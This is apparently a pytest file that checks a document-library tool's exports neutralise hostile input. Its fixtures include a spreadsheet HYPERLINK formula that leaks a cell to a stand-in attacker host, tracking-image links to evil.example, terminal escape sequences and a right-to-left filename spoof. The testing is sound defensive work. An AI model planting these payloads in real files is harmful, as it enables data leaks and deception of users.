"""Exports of hostile document text (issue 50): JSON on a pipe exactly as json.dump writes it, CSV cells a spreadsheet
would run neutralised (read back with the csv module), control and bidi characters escaped in CSV and conversation
exports, remote images in Markdown made inert, and writes that fail leave the old file with a one-line error.
Through the CLI (CliRunner), real SQLite, real parsers (ingest --no-index: no model is needed)."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from shelfwise.app.cli.main import main
from shelfwise.core.conversation.export import conversation_markdown
from shelfwise.core.conversation.model import Conversation, Reading, Turn, TurnCitation
from shelfwise.core.store.db import Store
from shelfwise.core.store.export import export_rows
from shelfwise.ingest.model import Location

FLAG = "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"  # England's flag: a tag sequence
FAMILY = "\U0001f468\u200d\U0001f469\u200d\U0001f467"  # joined by zero-width joiners
SOFT = "co\u00adoperate"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
IMAGE = "![x](http://evil.example/pixel.png) and <img src=http://evil.example/a.png>"


def _stdout(result) -> str:  # type: ignore[no-untyped-def]
    return getattr(result, "stdout", result.output)


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "hostile.md").write_text(
        f"# {FORMULA}\n\nA flag {FLAG}, a family {FAMILY}, to {SOFT}.\n\n"
        f"## @SUM(1+1)\n\n+1 was written here with a bell \x07 and \u202eright-to-left.\n\n"
        f"## Images\n\n{IMAGE}\n", encoding="utf-8")
    db = tmp_path / "lib.db"
    result = CliRunner().invoke(main, ["--db", str(db), "ingest", str(docs), "--no-index"])
    assert result.exit_code == 0, result.output
    return db


def _stored(db: Path) -> dict[str, object]:
    store = Store(db)
    try:
        return export_rows(store.conn).as_dict()  # type: ignore[return-value]
    finally:
        store.close()


def test_json_on_a_pipe_is_exactly_what_json_dumps_writes(hostile: Path) -> None:
    result = CliRunner().invoke(main, ["--db", str(hostile), "export"])
    assert result.exit_code == 0, result.output
    out = _stdout(result)
    stored = _stored(hostile)
    assert out == json.dumps(stored, ensure_ascii=False, indent=2) + "\n"
    text = " ".join(p["text"] for p in json.loads(out)["passages"])
    assert FLAG in text and FAMILY in text and SOFT in text  # tag characters, ZWJ and soft hyphen kept


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(hostile: Path, tmp_path: Path) -> None:
    folder = tmp_path / "csv"
    result = CliRunner().invoke(main, ["--db", str(hostile), "export", "--format", "csv", "--out", str(folder)])
    assert result.exit_code == 0, result.output
    cells = []
    for name in ("documents", "sections", "passages"):
        with (folder / f"{name}.csv").open(encoding="utf-8", newline="") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    assert cells and not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert "'" + FORMULA in cells  # the heading, kept whole after the quote
    assert any(c.startswith("'@SUM") for c in cells) and any(c.startswith("'+1 was written") for c in cells)
    joined = "".join(cells)
    assert "\x07" not in joined and "\u202e" not in joined
    assert "\\x07" in joined and "\\u202e" in joined  # escaped, visible
    assert FLAG in joined  # content is kept


def test_write_errors_are_one_line_and_keep_the_old_file(hostile: Path, tmp_path: Path) -> None:
    runner = CliRunner()
    target = tmp_path / "lib.json"
    target.write_text("the old export\n")
    full = runner.invoke(main, ["--db", str(hostile), "export", "--out", "/dev/full"])
    assert full.exit_code == 1 and "Traceback" not in full.output
    assert "cannot write /dev/full: No space left on device" in full.output
    assert len(full.output.strip().splitlines()) == 1

    a_file = tmp_path / "plain"
    a_file.write_text("x")
    under = runner.invoke(main, ["--db", str(hostile), "export", "--out", str(a_file / "lib.json")])
    assert under.exit_code == 1 and "Traceback" not in under.output and "cannot write" in under.output

    csv_on_file = runner.invoke(main, ["--db", str(hostile), "export", "--format", "csv", "--out", str(target)])
    assert csv_on_file.exit_code == 2 and "is a file" in csv_on_file.output
    assert target.read_text() == "the old export\n"

    ok = runner.invoke(main, ["--db", str(hostile), "export", "--out", str(target)])
    assert ok.exit_code == 0 and json.loads(target.read_text())["documents"]
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")) == []  # no temporary left


def test_a_failed_write_leaves_the_old_file_whole(tmp_path: Path) -> None:
    from shelfwise.core.store.inert import write_atomically

    target = tmp_path / "out.json"
    target.write_text("old\n")

    def half(fh) -> None:  # type: ignore[no-untyped-def]
        fh.write("new, half written")
        raise OSError(28, "No space left on device")

    with pytest.raises(OSError):
        write_atomically(target, half)
    assert target.read_text() == "old\n" and [p.name for p in tmp_path.iterdir()] == ["out.json"]


def test_conversation_export_escapes_controls_and_makes_images_inert() -> None:
    where = TurnCitation(1, 5, 2, "/docs/a\u202etxt.exe", "A", ["Intro"], Location(page=1),
                         f"see {IMAGE} \x1b]0;title\x07")
    turn = Turn(1, "What is \x1b[31mred\x1b[0m?", Reading("first", "q", "q"),
                f"It is ![pwn](https://evil.example/t.gif) {FAMILY}", True, [where])
    md = conversation_markdown(Conversation(7, "default", "t\u202e", [turn]))
    assert "\x1b" not in md and "\x07" not in md and "\u202e" not in md
    assert "\\x1b[31mred" in md and "\\u202e" in md
    assert "![" not in md.replace("\\![", "") and "<img" not in md
    assert "\\![pwn](https://evil.example/t.gif)" in md and "&lt;img src=" in md
    assert FAMILY in md


def test_json_on_a_terminal_is_valid_json_with_controls_escaped(hostile: Path) -> None:
    import os
    import pty
    import subprocess
    import sys

    exe = Path(sys.executable).parent / "shelfwise"
    leader, follower = pty.openpty()
    proc = subprocess.Popen([str(exe), "--db", str(hostile), "export"], stdout=follower, stderr=subprocess.PIPE,
                            env={**os.environ, "PYTHONIOENCODING": "utf-8"})
    os.close(follower)
    chunks = []
    while True:
        try:
            block = os.read(leader, 65536)
        except OSError:  # the terminal closed: the command ended
            break
        if not block:
            break
        chunks.append(block)
    proc.wait(timeout=120)
    os.close(leader)
    shown = b"".join(chunks).decode("utf-8").replace("\r\n", "\n")
    assert proc.returncode == 0
    assert "\x07" not in shown and "\u202e" not in shown and "\\u202e" in shown  # escaped as JSON escapes
    assert json.loads(shown) == _stored(hostile)  # still valid JSON, the same values
